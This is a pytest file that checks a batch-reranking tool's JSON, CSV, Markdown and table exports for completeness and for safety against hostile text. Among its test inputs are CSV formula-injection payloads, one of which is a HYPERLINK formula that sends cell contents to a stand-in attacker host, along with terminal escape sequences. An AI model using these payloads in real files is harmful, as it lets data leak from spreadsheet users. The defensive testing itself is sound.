"""Results written as JSON, CSV, Markdown and tables: complete, exact where promised, and harmless."""

import csv
import html
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hostile import dangerous_in, hostile_strings
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from batchtui.exchange.json_form import job_object
from batchtui.exchange.table_form import aligned, write_jobs_table
from batchtui.exchange.writing import EXPORT_FORMS, ExportForm, export
from batchtui.model import Batch, Context, Request, RequestResult
from batchtui.text import cell_width

from .jobs_for_export import make_batch, make_failed_job, make_job, make_results

BATCH = Batch(
    (
        Request("how long?", (Context("a", "doc-1", 3), Context("b"), Context("c", None, 0)), "refund-1"),
        Request("and abroad?", (Context("d"),)),
    )
)
RESULTS = (
    RequestResult(True, make_results(BATCH, [0.5, 0.75, 0.25])[0].ranking),
    RequestResult(False, error="too long"),
)


def as_json(**options: Any) -> dict[str, Any]:
    text = export(make_job(BATCH), BATCH, options.get("results", RESULTS), options.get("grades"), "json")
    shown = json.loads(text)
    assert isinstance(shown, dict)
    return shown


class TestJson:
    def test_a_job_has_the_documented_keys(self) -> None:
        assert job_object(make_job(BATCH, label="x")) == {
            "id": 31,
            "state": "done",
            "label": "x",
            "backend": "local",
            "model": "@cf/baai/bge-m3",
            "request_id": "abc",
            "created_at": "2001-09-09T01:46:40.000Z",
            "submitted_at": "2001-09-09T01:46:40.500Z",
            "finished_at": "2001-09-09T01:46:42.600Z",
            "requests": 2,
            "contexts": 4,
            "usage": {"prompt_tokens": 1204, "completion_tokens": 0, "total_tokens": 1204},
            "error": None,
        }

    def test_a_failed_job_says_why(self) -> None:
        shown = job_object(make_failed_job(BATCH, "too large"))
        assert shown["error"] == {"code": 3006, "message": "too large", "hint": "split it"}
        assert (shown["usage"], shown["submitted_at"]) == (None, None)

    def test_rankings_count_ranks_from_1_and_indices_from_0(self) -> None:
        first, second = as_json()["requests"]
        assert first["ranking"] == [
            {"rank": 1, "index": 1, "id": None, "score": 0.75, "text": "b"},
            {"rank": 2, "index": 0, "id": "doc-1", "score": 0.5, "text": "a"},
            {"rank": 3, "index": 2, "id": None, "score": 0.25, "text": "c"},
        ]
        assert (first["query"], first["external_reference"]) == ("how long?", "refund-1")
        assert (first["success"], first["error"]) == (True, None)
        assert (second["success"], second["error"], second["ranking"]) == (False, "too long", [])

    def test_metrics_stand_where_there_are_judgments_and_are_null_elsewhere(self) -> None:
        shown = as_json(grades=[{0: 3, 2: 0}, {0: 1}])
        first, second = shown["requests"]
        assert set(first["metrics"]) == {"ndcg@10", "mrr", "map", "p@5", "judged"}
        assert (first["metrics"]["mrr"], first["metrics"]["judged"]) == (0.5, 2)
        assert second["metrics"] is None
        assert shown["metrics"] == first["metrics"]
        assert as_json(grades=[{}, {}])["metrics"] is None

    def test_relevance_in_the_batch_counts_where_no_grades_are_given(self) -> None:
        assert as_json()["metrics"]["judged"] == 2

    def test_judged_contexts_that_were_not_ranked_count_as_missed(self) -> None:
        ranked = (RequestResult(True, make_results(make_batch(["a"]))[0].ranking), RESULTS[1])
        shown = as_json(results=ranked, grades=[{0: 1, 1: 1}, {}])
        assert shown["requests"][0]["metrics"]["map"] == 0.5

    def test_a_job_that_is_not_done_has_requests_without_rankings(self) -> None:
        shown = as_json(results=None)
        assert [request["success"] for request in shown["requests"]] == [None, None]
        assert [request["ranking"] for request in shown["requests"]] == [[], []]
        assert shown["metrics"] is None

    def test_what_did_not_fit_the_answer_is_said(self) -> None:
        result = RequestResult(True, RESULTS[0].ranking, problems=("no score for 2", "id 7 is unknown"))
        assert (
            as_json(results=(result, RESULTS[1]))["requests"][0]["error"] == "no score for 2; id 7 is unknown"
        )

    @pytest.mark.parametrize("score", [float("inf"), float("-inf")])
    def test_a_score_that_json_cannot_hold_is_null(self, score: float) -> None:
        batch = make_batch(["a"])
        text = export(make_job(batch), batch, make_results(batch, [score]), None, "json")
        assert json.loads(text)["requests"][0]["ranking"][0]["score"] is None


class TestHostileTexts:
    # Two escapes of lone surrogates in a row are a pair in JSON: no writer can keep them apart.
    TEXTS = [
        text
        for name, text in hostile_strings()
        if text and len(text) < 20_000 and name != "surrogate: pair that is none"
    ]

    @pytest.fixture(scope="class")
    def batch(self) -> Batch:
        contexts = tuple(Context(text, text) for text in self.TEXTS)
        return Batch(
            tuple(Request(text, contexts[:3], text) for text in self.TEXTS) + (Request("q", contexts),)
        )

    @pytest.mark.parametrize("form", [form for form in EXPORT_FORMS if form != "curl"])
    def test_no_form_has_a_character_that_a_terminal_obeys(self, batch: Batch, form: ExportForm) -> None:
        job = make_job(batch, label="".join(self.TEXTS)[:5_000])
        text = export(job, batch, make_results(batch), None, form)
        found = [
            place for place in dangerous_in(text) if "marks at" not in place or form not in ("json", "jsonl")
        ]
        assert found == []

    def test_json_gives_back_every_character(self, batch: Batch) -> None:
        shown = json.loads(export(make_job(batch), batch, make_results(batch), None, "json"))
        assert [request["query"] for request in shown["requests"]] == [r.query for r in batch.requests]
        ranked = sorted(shown["requests"][-1]["ranking"], key=lambda row: int(row["index"]))
        assert [row["text"] for row in ranked] == self.TEXTS

    def test_markdown_shows_them_as_text(self, batch: Batch) -> None:
        text = export(make_job(batch), batch, make_results(batch), None, "md")
        tokens = MarkdownIt("gfm-like", {"html": True, "linkify": False}).parse(text)
        kinds = {inner.type for token in tokens if token.type == "inline" for inner in token.children or []}
        assert kinds <= {"text", "text_special"}
        tables = sum(token.type == "table_open" for token in tokens)
        rows = sum(token.type == "tr_open" for token in tokens)
        contexts = sum(len(request.contexts) for request in batch.requests)
        assert (tables, rows) == (len(batch.requests), len(batch.requests) + contexts)

    @pytest.mark.parametrize(
        "message",
        ["# BIG", "- x", "+ x", "* x", "1. x", "1) x", "---", "===", "    x", "> x", "```", "~~~", "<b>"],
    )
    def test_markdown_shows_the_message_of_a_service_as_a_sentence(self, message: str) -> None:
        text = export(make_failed_job(BATCH, message), BATCH, None, None, "md")
        rendered = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(text)
        assert f"<p>Error: {html.escape(message.strip())}</p>\n<p>split it</p>" in rendered

    def test_csv_has_a_row_a_context_and_no_formula(self, batch: Batch) -> None:
        text = export(make_job(batch), batch, make_results(batch), None, "csv")
        rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
        assert len(rows) == batch.context_count
        for row in rows:
            for column in ("external_reference", "query", "id", "context"):
                assert not row[column].lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))


class TestCsv:
    def test_rows_say_all_of_a_rank(self) -> None:
        text = export(make_job(BATCH), BATCH, RESULTS, None, "csv")
        assert text.splitlines() == [
            '"external_reference","query","rank","index","id","score","relevance","context"',
            '"refund-1","how long?",1,1,"",0.75,"","b"',
            '"refund-1","how long?",2,0,"doc-1",0.5,3,"a"',
            '"refund-1","how long?",3,2,"",0.25,0,"c"',
        ]

    @pytest.mark.parametrize(
        "start",
        [
            *"=+-@＝＋－＠﹢﹣﹦﹫−",
            "\t=",
            " =",
            "\n=",
            "\u00a0=",
            "\u3000=",
            "'=",
            '" =',
            "a;=",
            "a|'\t@",
            "a\n+",
        ],
    )
    def test_what_begins_like_a_formula_gets_an_apostrophe(self, start: str) -> None:
        batch = make_batch([f"{start}1+1", "1=1", "a-b", "a, -b"])
        text = export(make_job(batch), batch, make_results(batch, [4, 3, 2, 1]), None, "csv")
        guarded, *others = [row["context"] for row in csv.DictReader(io.StringIO(text, newline=""))]
        assert guarded.endswith(f"'{start[-1]}1+1")
        assert others == ["1=1", "a-b", "a, -b"]

    @given(
        st.lists(st.text(st.sampled_from(";|,\t\n\r\"' =+-@\u00a0−a"), min_size=1), min_size=1, max_size=5)
    )
    @example(['price list;=HYPERLINK("http://evil.example/?"&A1,"click")'])
    @example(["x\t;+1+cmd"])
    @example(['a;"=1', 'a;";=1', "a;\n '=1"])
    def test_no_cell_is_a_formula_wherever_a_reader_splits(self, texts: list[str]) -> None:
        request = Request(texts[0], tuple(Context(text, text) for text in texts), texts[-1])
        batch = Batch((request,))
        text = export(make_job(batch), batch, make_results(batch), None, "csv")
        for delimiter in ",;|\t":
            for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE) if delimiter != "," else (csv.QUOTE_MINIMAL,):
                for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting):
                    for cell in row:
                        assert not cell.lstrip(' \u00a0"').startswith(tuple("=+-@−\t\r"))

    @pytest.mark.parametrize("delimiter", ",;|")
    def test_a_text_stays_in_one_cell_of_a_reader_that_also_splits_elsewhere(self, delimiter: str) -> None:
        batch = make_batch([f"a{delimiter}b"])
        text = export(make_job(batch), batch, make_results(batch), None, "csv")
        assert text.splitlines()[1].endswith(f'"a{delimiter}b"')

    def test_a_score_below_zero_is_a_number(self) -> None:
        batch = make_batch(["a"])
        assert ",-0.5," in export(make_job(batch), batch, make_results(batch, [-0.5]), None, "csv")


class TestTable:
    def test_it_fits_its_width_in_cells(self) -> None:
        batch = make_batch(["日本語のとても長い文章" * 20, "x" * 500, "é" * 300], query="長い" * 100)
        for width in (60, 80, 120):
            lines = export(make_job(batch), batch, make_results(batch), None, "table", width=width).split(
                "\n"
            )
            assert max(map(cell_width, lines)) <= width

    def test_columns_stand_under_each_other(self) -> None:
        text = export(make_job(BATCH), BATCH, RESULTS, None, "table")
        header = next(line for line in text.split("\n") if line.startswith("rank"))
        rows = text.split("\n")[text.split("\n").index(header) + 1 :][:3]
        assert [row.split() for row in rows] == [
            ["1", "0.750000", "2", "b"],
            ["2", "0.500000", "1", "3", "doc-1", "a"],
            ["3", "0.250000", "3", "0", "c"],
        ]
        assert {row.rindex(row.split()[-1]) for row in rows} == {header.index("context")}

    def test_why_there_is_no_ranking_is_said(self) -> None:
        assert "too long" in export(make_job(BATCH), BATCH, RESULTS, None, "table")
        failed = export(make_failed_job(BATCH, "too large"), BATCH, None, None, "table")
        assert "too large" in failed
        assert "split it" in failed

    def test_columns_without_a_cell_are_left_out(self) -> None:
        assert aligned(("a", "b", "c"), [("1", "", "x")], right={0}, width=80) == ["a  c", "1  x"]

    def test_jobs_have_a_line_each(self) -> None:
        lines = write_jobs_table(
            [make_job(BATCH, label="x\x1b[2J"), make_failed_job(BATCH, "no")]
        ).splitlines()
        assert len(lines) == 3
        assert lines[1].split()[:2] == ["31", "done"]
        assert "␛" in lines[1]

    def test_no_jobs_are_a_header_alone(self) -> None:
        assert write_jobs_table([]).split()[:2] == ["job", "state"]


class TestEveryForm:
    @pytest.mark.parametrize("form", EXPORT_FORMS)
    def test_a_job_without_results_can_be_written(self, form: ExportForm) -> None:
        text = export(make_job(BATCH), BATCH, None, None, form)
        assert text == "" or text.endswith("\n")
        assert (text == "") == (form == "trec")

    def test_the_samples_can_be_written_in_every_form(self) -> None:
        from batchtui.exchange.opening import read_file

        samples = Path(__file__).parents[2] / "assets" / "samples"
        batch = read_file(samples / "refunds.jsonl").batch
        for form in EXPORT_FORMS:
            assert export(make_job(batch), batch, make_results(batch), None, form).endswith("\n")
